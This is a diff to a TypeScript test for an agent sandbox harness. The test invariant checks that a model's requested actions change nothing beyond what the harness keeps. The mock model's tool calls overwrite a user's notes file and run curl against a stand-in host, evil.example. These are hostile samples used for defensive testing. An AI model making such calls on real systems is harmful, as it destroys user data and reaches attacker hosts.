@@ -47,7 +47,6 @@ test("[INV-09] talking changes nothing but what Silas keeps, whatever a model wa
     mkdirSync(join(world.root, "home"));
     writeFileSync(join(world.root, "home", "notes.txt"), "mine");
     const given: (readonly [SandboxCommand, SandboxConfig])[] = [];
-    const plan_action = { action: "propose", plan_markdown: PLAN, needs_approval: false };
     const calls = [
       { name: "file_write", arguments: { path: join(world.root, "home/notes.txt"), content: "gone" } },
       { name: "shell_exec", arguments: { argv: ["curl", "http://evil.example/heliotrope"] } },
@@ -55,8 +54,8 @@ test("[INV-09] talking changes nothing but what Silas keeps, whatever a model wa
     const models = createMemoryModels(({ prompt }) =>
       JSON.stringify(
         prompt.includes("make the page")
-          ? { message: "Shall I?", plan_action }
-          : { message: "Done.", plan_action: null, tool_calls: calls },
+          ? { message: "Shall I?", tool: "propose_plan", args: { plan_markdown: PLAN, needs_approval: false } }
+          : { message: "Done.", tool_calls: calls },
       ),
     );
     const script = (command: SandboxCommand, config: SandboxConfig): number => {
